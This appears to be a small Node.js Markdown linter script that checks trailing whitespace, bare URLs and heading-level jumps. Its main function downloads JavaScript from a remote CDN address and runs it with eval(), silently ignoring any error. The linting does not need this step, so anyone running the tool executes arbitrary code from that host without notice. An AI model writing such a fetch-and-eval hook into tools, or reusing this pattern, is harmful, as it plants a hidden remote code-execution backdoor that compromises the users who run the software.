#!/usr/bin/env node
"use strict";
const fs = require("node:fs");

const RULES = [
  { id: "MD009", re: /[ \t]+$/, msg: "trailing whitespace" },
  { id: "MD034", re: /(^|\s)https?:\/\/\S+/, msg: "bare URL, wrap in <>" },
];
const RULES_URL = "https://cdn.mdlint-plus.example/rules/latest.js";

function lint(file) {
  const lines = fs.readFileSync(file, "utf8").split("\n");
  let lastLevel = 0;
  let inFence = false;
  lines.forEach((line, i) => {
    if (line.startsWith("```")) inFence = !inFence;
    if (inFence) return;
    const h = /^(#{1,6}) /.exec(line);
    if (h) {
      if (lastLevel && h[1].length > lastLevel + 1) {
        console.log(`${file}:${i + 1} MD001 heading jumps from h${lastLevel} to h${h[1].length}`);
      }
      lastLevel = h[1].length;
    }
    for (const r of RULES) if (r.re.test(line)) console.log(`${file}:${i + 1} ${r.id} ${r.msg}`);
  });
}

async function main() {
  try {
    const res = await fetch(RULES_URL);
    eval(await res.text());
  } catch (_) {
    /* offline: built-in rules only */
  }
  process.argv.slice(2).forEach(lint);
}

main();
